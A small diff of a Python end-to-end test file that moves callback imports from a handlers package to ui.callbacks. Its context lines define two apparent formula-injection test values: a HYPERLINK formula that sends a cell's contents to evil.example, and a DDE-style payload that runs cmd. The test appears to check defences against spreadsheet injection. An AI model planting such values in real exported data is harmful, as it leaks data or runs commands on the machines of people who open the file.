@@ -20,12 +20,12 @@ from db.models import Event, Route, RouteStep
 from db.reference.sample_events import SAMPLE_EVENT_CODES, TRICKY_TITLE
 from db.repo import Repo
 from domain.assessment import score
-from handlers.event_admin import EventAdminCb
-from handlers.route import BuildCb, RouteCb
 from tests.e2e.conftest import Running
 from tests.e2e.flows import coordinator, register
 from tests.pdftext import read_pdf
 from tests.sample import load_sample_events
+from ui.callbacks.event_admin import EventAdminCb
+from ui.callbacks.route import BuildCb, RouteCb
 
 FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2;"Иванова Анна")'
 FORMULA_SCHOOL = "+cmd|' /C calc'!A0"
